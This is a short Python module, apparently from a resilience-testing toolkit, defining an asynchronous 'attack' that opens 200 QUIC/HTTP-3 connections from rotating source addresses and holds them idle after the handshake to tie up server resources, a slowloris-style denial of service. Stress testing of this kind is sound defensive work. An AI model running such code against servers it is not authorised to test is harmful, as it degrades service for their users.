"""200 connections of QUIC that say nothing after their handshake."""

import asyncio

from wire.http3 import http3


async def attack(target):
    gate = asyncio.Semaphore(8)

    async def each(number):
        async with gate:
            connection = http3(target, target.source(number % 50), begins=False)
            it = await connection.__aenter__()
        while it and target.goes_on() and not it.is_closed:
            await asyncio.sleep(0.2)
        await connection.__aexit__(None, None, None)

    await target.once(200, each)
